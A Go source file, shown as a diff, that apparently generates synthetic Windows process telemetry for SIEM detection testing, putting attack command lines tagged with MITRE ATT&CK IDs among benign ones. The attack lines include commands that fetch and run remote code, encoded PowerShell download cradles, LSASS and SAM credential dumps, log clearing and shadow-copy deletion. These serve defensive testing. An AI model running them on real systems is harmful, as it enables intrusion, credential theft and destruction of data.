@@ -0,0 +1,264 @@
+package generators
+
+import (
+	"encoding/base64"
+	"fmt"
+	"strings"
+	"sync"
+	"unicode/utf16"
+
+	"siem-event-generator/models"
+)
+
+// processConfig holds the process command line settings, running attack
+// variants in 1% of processes by default
+var processConfig = struct {
+	sync.RWMutex
+	models.ProcessConfig
+}{ProcessConfig: models.ProcessConfig{SuspicionLevel: models.SuspicionLow}}
+
+// suspicionRates is the share of processes that run an attack command line
+// at each suspicion level
+var suspicionRates = map[string]float64{
+	models.SuspicionNone:   0,
+	models.SuspicionLow:    0.01,
+	models.SuspicionMedium: 0.05,
+	models.SuspicionHigh:   0.25,
+}
+
+// ProcessConfig returns the process command line settings
+func ProcessConfig() models.ProcessConfig {
+	processConfig.RLock()
+	defer processConfig.RUnlock()
+	return processConfig.ProcessConfig
+}
+
+// SetProcessConfig replaces the process command line settings
+func SetProcessConfig(cfg models.ProcessConfig) error {
+	if err := cfg.Validate(); err != nil {
+		return err
+	}
+	processConfig.Lock()
+	defer processConfig.Unlock()
+	processConfig.ProcessConfig = cfg
+	return nil
+}
+
+// attackCommandLine is a malicious way to run a program and the MITRE
+// ATT&CK technique it is an example of
+type attackCommandLine struct {
+	technique string // e.g. T1059.001
+	name      string
+	line      string
+}
+
+// commandLines are the ways programs are run. Benign lines are what the
+// program does day to day; attack lines are what detections look for.
+// %USER%, %IP%, %DOMAIN%, %HOST%, %RAND% and %ENCODED% (an encoded
+// PowerShell download cradle) are filled in when a process starts.
+var commandLines = map[string]struct {
+	benign []string
+	attack []attackCommandLine
+}{
+	"cmd.exe": {
+		benign: []string{
+			`"C:\Windows\system32\cmd.exe"`,
+			`C:\Windows\system32\cmd.exe /c "C:\Users\%USER%\Desktop\backup.bat"`,
+			`cmd.exe /c dir /s /b *.log`,
+			`C:\Windows\system32\cmd.exe /d /c npm run build`,
+			`cmd /c "net use Z: \\fs01.%DOMAIN%\shared /persistent:yes"`,
+		},
+		attack: []attackCommandLine{
+			{"T1059.003", "Windows Command Shell", `cmd.exe /c echo %RAND% > \\.\pipe\%RAND%`},
+			{"T1105", "Ingress Tool Transfer", `cmd.exe /c certutil -urlcache -split -f http://%IP%/update.exe C:\Users\Public\update.exe && C:\Users\Public\update.exe`},
+			{"T1070.001", "Clear Windows Event Logs", `cmd.exe /c wevtutil cl Security & wevtutil cl System`},
+			{"T1490", "Inhibit System Recovery", `cmd.exe /c vssadmin delete shadows /all /quiet & bcdedit /set {default} recoveryenabled No`},
+		},
+	},
+	"powershell.exe": {
+		benign: []string{
+			`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"`,
+			`powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\ProgramData\Scripts\inventory.ps1"`,
+			`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoLogo -Command "Get-Service | Where-Object Status -eq Running"`,
+			`powershell.exe -Command "Get-ChildItem -Path C:\Users\%USER%\Downloads -Recurse | Measure-Object"`,
+			`powershell.exe -NonInteractive -Command "Import-Module ActiveDirectory; Get-ADUser %USER%"`,
+		},
+		attack: []attackCommandLine{
+			{"T1059.001", "PowerShell", `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand %ENCODED%`},
+			{"T1059.001", "PowerShell", `powershell.exe -nop -w hidden -c "IEX ((New-Object Net.WebClient).DownloadString('http://%IP%/a'))"`},
+			{"T1562.001", "Disable or Modify Tools", `powershell.exe -Command "Set-MpPreference -DisableRealtimeMonitoring $true"`},
+			{"T1003.001", "LSASS Memory", `powershell.exe -c "rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump (Get-Process lsass).Id C:\Windows\Temp\%RAND%.dmp full"`},
+		},
+	},
+	"rundll32.exe": {
+		benign: []string{
+			`C:\Windows\system32\rundll32.exe shell32.dll,Control_RunDLL desk.cpl`,
+			`"C:\Windows\system32\rundll32.exe" C:\Windows\system32\PcaSvc.dll,PcaPatchSdbTask`,
+			`C:\Windows\System32\rundll32.exe C:\Windows\System32\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding`,
+		},
+		attack: []attackCommandLine{
+			{"T1218.011", "Rundll32", `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://%IP%/payload.sct")`},
+			{"T1218.011", "Rundll32", `rundll32.exe C:\Users\%USER%\AppData\Local\Temp\%RAND%.dll,DllRegisterServer`},
+			{"T1003.001", "LSASS Memory", `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 672 C:\Windows\Temp\lsass.dmp full`},
+		},
+	},
+	"regsvr32.exe": {
+		benign: []string{
+			`C:\Windows\system32\regsvr32.exe /s "C:\Program Files\Common Files\microsoft shared\ink\tiptsf.dll"`,
+			`regsvr32.exe /s /n /i:user "C:\Windows\System32\themeui.dll"`,
+		},
+		attack: []attackCommandLine{
+			{"T1218.010", "Regsvr32", `regsvr32.exe /s /n /u /i:http://%IP%/file.sct scrobj.dll`},
+			{"T1218.010", "Regsvr32", `regsvr32.exe /s C:\Users\Public\%RAND%.ocx`},
+		},
+	},
+	"mshta.exe": {
+		benign: []string{
+			`"C:\Windows\System32\mshta.exe" "C:\Program Files (x86)\Vendor\Setup\welcome.hta"`,
+		},
+		attack: []attackCommandLine{
+			{"T1218.005", "Mshta", `mshta.exe http://%IP%/invoice.hta`},
+			{"T1218.005", "Mshta", `mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden -enc %ENCODED%"":close")`},
+		},
+	},
+	"certutil.exe": {
+		benign: []string{
+			`certutil.exe -hashfile C:\Users\%USER%\Downloads\setup.msi SHA256`,
+			`certutil -verify -urlfetch C:\Users\%USER%\Documents\signing.cer`,
+			`certutil.exe -store My`,
+		},
+		attack: []attackCommandLine{
+			{"T1105", "Ingress Tool Transfer", `certutil.exe -urlcache -split -f http://%IP%/beacon.dll C:\Windows\Temp\beacon.dll`},
+			{"T1140", "Deobfuscate/Decode Files or Information", `certutil -decode C:\Users\Public\%RAND%.txt C:\Users\Public\%RAND%.exe`},
+		},
+	},
+	"bitsadmin.exe": {
+		benign: []string{
+			`bitsadmin /list /allusers`,
+		},
+		attack: []attackCommandLine{
+			{"T1197", "BITS Jobs", `bitsadmin /transfer %RAND% /download /priority high http://%IP%/payload.exe C:\Users\%USER%\AppData\Local\Temp\payload.exe`},
+		},
+	},
+	"wmic.exe": {
+		benign: []string{
+			`wmic.exe os get Caption,Version /value`,
+			`wmic logicaldisk get size,freespace,caption`,
+		},
+		attack: []attackCommandLine{
+			{"T1047", "Windows Management Instrumentation", `wmic /node:%HOST% process call create "cmd.exe /c whoami > C:\Windows\Temp\%RAND%.txt"`},
+			{"T1490", "Inhibit System Recovery", `wmic shadowcopy delete`},
+		},
+	},
+	"schtasks.exe": {
+		benign: []string{
+			`schtasks.exe /query /fo LIST /v`,
+			`schtasks /run /tn "\Microsoft\Windows\Defrag\ScheduledDefrag"`,
+		},
+		attack: []attackCommandLine{
+			{"T1053.005", "Scheduled Task", `schtasks /create /sc minute /mo 15 /tn "MicrosoftEdgeUpdateTaskCore%RAND%" /tr "powershell -w hidden -enc %ENCODED%" /ru SYSTEM /f`},
+		},
+	},
+	"reg.exe": {
+		benign: []string{
+			`reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion" /v ProductName`,
+			`reg.exe export HKCU\Software\Vendor C:\Users\%USER%\vendor.reg /y`,
+		},
+		attack: []attackCommandLine{
+			{"T1547.001", "Registry Run Keys", `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d "C:\Users\%USER%\AppData\Roaming\%RAND%.exe" /f`},
+			{"T1003.002", "Security Account Manager", `reg save HKLM\SAM C:\Windows\Temp\sam.save`},
+		},
+	},
+	"net.exe": {
+		benign: []string{
+			`net use`,
+			`net use Z: \\fs01.%DOMAIN%\shared`,
+			`net time \\dc01.%DOMAIN% /set /y`,
+		},
+		attack: []attackCommandLine{
+			{"T1087.002", "Domain Account", `net group "Domain Admins" /domain`},
+			{"T1136.001", "Local Account", `net user support_%RAND% P@ssw0rd123! /add`},
+			{"T1021.002", "SMB/Windows Admin Shares", `net use \\%HOST%\C$ /user:%DOMAIN%\administrator`},
+		},
+	},
+	"whoami.exe": {
+		benign: []string{`whoami`, `whoami /upn`},
+		attack: []attackCommandLine{
+			{"T1033", "System Owner/User Discovery", `whoami /all`},
+			{"T1033", "System Owner/User Discovery", `whoami /priv`},
+		},
+	},
+	"ipconfig.exe": {
+		benign: []string{`ipconfig /all`, `ipconfig /flushdns`, `ipconfig /renew`},
+	},
+	"ping.exe": {
+		benign: []string{`ping -n 4 8.8.8.8`, `ping dc01.%DOMAIN%`, `ping -t %HOST%`},
+	},
+	"findstr.exe": {
+		benign: []string{`findstr /i error C:\Windows\Logs\CBS\CBS.log`, `findstr /s /i "TODO" *.cs`},
+		attack: []attackCommandLine{
+			{"T1552.001", "Credentials In Files", `findstr /si password *.xml *.ini *.txt *.config`},
+		},
+	},
+	"msiexec.exe": {
+		benign: []string{`C:\Windows\system32\msiexec.exe /V`, `msiexec.exe /i "C:\Windows\ccmcache\1\setup.msi" /qn`},
+		attack: []attackCommandLine{
+			{"T1218.007", "Msiexec", `msiexec.exe /q /i http://%IP%/package.msi`},
+		},
+	},
+}
+
+// encodedCradle returns a PowerShell download cradle for url the way
+// -EncodedCommand takes it: base64 of UTF-16LE
+func encodedCradle(url string) string {
+	script := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('%s')", url)
+	units := utf16.Encode([]rune(script))
+	buf := make([]byte, 0, len(units)*2)
+	for _, u := range units {
+		buf = append(buf, byte(u), byte(u>>8))
+	}
+	return base64.StdEncoding.EncodeToString(buf)
+}
+
+// processCommandLine picks how a program is run: one of its benign command
+// lines, or at the suspicion level's rate an attack one, whose technique it
+// returns. Programs outside the library keep fallback.
+func (b *BaseGenerator) processCommandLine(name, fallback string) (line, technique string) {
+	lines, ok := commandLines[name]
+	if !ok {
+		return fallback, ""
+	}
+	line = fallback
+	if len(lines.benign) > 0 {
+		line = b.RandomChoice(lines.benign)
+	}
+	if len(lines.attack) > 0 && b.rnd.float64() < suspicionRates[ProcessConfig().SuspicionLevel] {
+		attack := lines.attack[b.RandomInt(0, len(lines.attack)-1)]
+		line, technique = attack.line, fmt.Sprintf("technique_id=%s,technique_name=%s", attack.technique, attack.name)
+	}
+
+	ip := b.RandomIPv4External()
+	return strings.NewReplacer(
+		"%ENCODED%", encodedCradle(fmt.Sprintf("http://%s/%s", ip, b.RandomString(6))),
+		"%IP%", ip,
+		"%DOMAIN%", Theme().ADDomain,
+		"%HOST%", b.RandomHostname(),
+		"%RAND%", b.RandomString(8),
+	).Replace(line), technique
+}
+
+// userProcessParents are the programs a user's processes are commonly
+// started from
+var userProcessParents = []string{"explorer.exe", "cmd.exe", "powershell.exe"}
+
+// randomUserProcess returns a program user starts from a shell or
+// Explorer: its image, command line and parent image, for events that
+// report a process without tracking a tree
+func (b *BaseGenerator) randomUserProcess(user string) (image, commandLine, parentImage string) {
+	parent := sysmonPrograms[b.RandomChoice(userProcessParents)]
+	name := b.RandomChoice(parent.Children)
+	prog := sysmonPrograms[name]
+	commandLine, _ = b.processCommandLine(name, prog.CommandLine)
+	users := strings.NewReplacer("%USER%", user)
+	return users.Replace(prog.Path), users.Replace(commandLine), parent.Path
+}